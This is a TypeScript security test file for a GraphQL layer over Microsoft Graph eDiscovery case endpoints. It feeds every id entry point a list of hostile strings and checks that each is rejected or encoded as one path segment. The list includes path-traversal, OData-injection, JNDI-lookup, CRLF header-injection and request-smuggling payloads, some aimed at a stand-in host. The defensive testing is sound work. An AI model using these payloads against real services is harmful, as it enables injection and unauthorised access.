import { caseId, id } from '../../testkit/documents.js';
import { type Expectation, type HttpAttack, post } from './hostile-request.js';

/** Strings that a component could interpret as something other than an id. */
const hostileIds: readonly (readonly [string, string])[] = [
  ['nothing', ''],
  ['a space', ' '],
  ['white space', '\t\u00a0\u2003'],
  ['.', '.'],
  ['..', '..'],
  ['...', '...'],
  ['../', '../'],
  ['a way up', '../../../../v1.0/users'],
  ['a way up with a backslash', '..\\..\\users'],
  ['an encoded way up', '..%2f..%2fusers'],
  ['a doubly encoded way up', '%252e%252e%252f'],
  ['an encoded dot', '%2e%2e'],
  ['a matrix parameter', '..;/users'],
  ['a slash in front', '/users'],
  ['two slashes', '//evil.example'],
  ['a URL', 'https://evil.example/'],
  ['a URL without slashes', 'https:evil.example'],
  ['a port and a user', 'user:pass@evil.example:80'],
  ['a query', 'x?$expand=settings'],
  ['a fragment', 'x#y'],
  ['parameters', 'x&$filter=1'],
  ['an equals sign', "id='x'"],
  ['a key in brackets', "('x')"],
  ['an end of a key', "')/operations('x"],
  ['quotes', "x' or 1 eq 1 or 'a' eq 'a"],
  ['quotes without spaces', "x'or(1)eq'1"],
  ['a double quote', '"x"'],
  ['$batch', '$batch'],
  ['$value', '$value'],
  ['an action', 'microsoft.graph.security.close'],
  ['a template', '{caseId}'],
  ['another template', '${jndi:ldap:evil.example}'],
  ['a wildcard', '*'],
  ['a line break', 'x\r\nHost: evil.example'],
  ['a second request', 'x HTTP/1.1\r\n\r\nDELETE / HTTP/1.1'],
  ['a line feed', 'x\ny'],
  ['NUL', 'x\u0000y'],
  ['an encoded NUL', 'x%00'],
  ['an escape', '\u001b[2J'],
  ['DEL', 'x\u007f'],
  ['a line separator', 'x\u2028y'],
  ['a slash that only looks like one', '\u2215users\u2044x\uff0fy'],
  ['dots that only look like dots', '\uff0e\uff0e'],
  ['a dotless way up', '\u2024\u2024'],
  ['a right-to-left mark', '\u202egpj.x'],
  ['a zero width space', 'x\u200by'],
  ['a BOM', '\ufeffx'],
  ['an emoji', '💣'],
  ['a family of emojis', '👩‍👩‍👧'],
  ['a combining letter', 'e\u0301\u0301\u0301'],
  ['a non-character', '\uffff'],
  ['128 letters', 'x'.repeat(128)],
  ['129 letters', 'x'.repeat(129)],
  ['128 letters of three bytes', '\u20ac'.repeat(128)],
  ['500 kB', 'x'.repeat(500_000)],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['toString', 'toString'],
  ['null', 'null'],
  ['a semicolon', 'x;y=z'],
  ['a plus sign', 'a+b'],
  ['a comma and an at sign', 'a,b@c'],
];

/** Percent-encodes everything but RFC 3986's unreserved characters, independently of the code under test. */
function encoded(text: string): string {
  return Array.from(Buffer.from(text), (byte) => {
    const letter = String.fromCharCode(byte);
    return /[A-Za-z0-9\-._~]/.test(letter) ? letter : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }).join('');
}

const patch = { percentProgress: 7 };
const single = 'mutation($i: UpdateCaseOperationInput!) {updateCaseOperation(input: $i) {userErrors {code}}}';
const bulk =
  'mutation($i: UpdateCaseOperationsInput!) {updateCaseOperations(input: $i) {results {userErrors {code}}}}';
const entities =
  'query($r: [_Any!]!) {_entities(representations: $r) {...on CaseOperation {kind}...on EdiscoveryCase {displayName}}}';

/** Each entry point for an id: the request, and the only path that may be sent to Graph. */
const ways = {
  'caseOperation(id)': (bad: string) => ({
    send: post('query($c: ID!, $i: ID!) {caseOperation(caseId: $c, id: $i) {status}}', { c: caseId, i: bad }),
    path: `${caseId}/operations/${encoded(bad)}`,
  }),
  'caseOperation(caseId)': (bad: string) => ({
    send: post('query($c: ID!, $i: ID!) {caseOperation(caseId: $c, id: $i) {status}}', { c: bad, i: id }),
    path: `${encoded(bad)}/operations/${id}`,
  }),
  ediscoveryCase: (bad: string) => ({
    send: post('query($i: ID!) {ediscoveryCase(id: $i) {displayName}}', { i: bad }),
    path: encoded(bad),
  }),
  'ediscoveryCase.operations': (bad: string) => ({
    send: post('query($i: ID!) {ediscoveryCase(id: $i) {operations {nodes {status}}}}', { i: bad }),
    // The operations imply that the case exists: without a field of the case, it is not read.
    path: `${encoded(bad)}/operations`,
  }),
  updateCaseOperation: (bad: string) => ({
    send: post(single, { i: { caseId, id: bad, patch } }),
    path: `${caseId}/operations/${encoded(bad)}`,
  }),
  updateCaseOperations: (bad: string) => ({
    send: post(bulk, { i: { updates: [{ caseId: bad, id: bad, patch }] } }),
    path: `${encoded(bad)}/operations/${encoded(bad)}`,
  }),
  '_entities of operations': (bad: string) => ({
    send: post(entities, { r: [{ __typename: 'CaseOperation', caseId: bad, id: bad }] }),
    path: `${encoded(bad)}/operations/${encoded(bad)}`,
  }),
  '_entities of cases': (bad: string) => ({
    send: post(entities, { r: [{ __typename: 'EdiscoveryCase', id: bad }] }),
    path: encoded(bad),
  }),
};

const neverSent = /[\p{Cc}\p{Cs}\s/\\?#%]/u;

/** An id that could split a path is never sent; any other is sent as one encoded segment. */
function expectation(bad: string, path: string): Expectation {
  if (bad === '' || bad === '.' || bad === '..' || bad.length > 128 || neverSent.test(bad))
    return { end: 'rejected', codes: ['INVALID_INPUT'], upstream: 'nothing' };
  return {
    end: 'either',
    upstream: { paths: [`/beta/security/cases/ediscoveryCases/${path}`], body: patch },
  };
}

export const idsByEntry: Readonly<Record<string, readonly HttpAttack[]>> = Object.fromEntries(
  Object.entries(ways).map(([way, ask]) => [
    way,
    hostileIds.map(([name, bad]) => ({
      name: `${way}: ${name}`,
      send: () => ask(bad).send,
      expect: expectation(bad, ask(bad).path),
    })),
  ]),
);
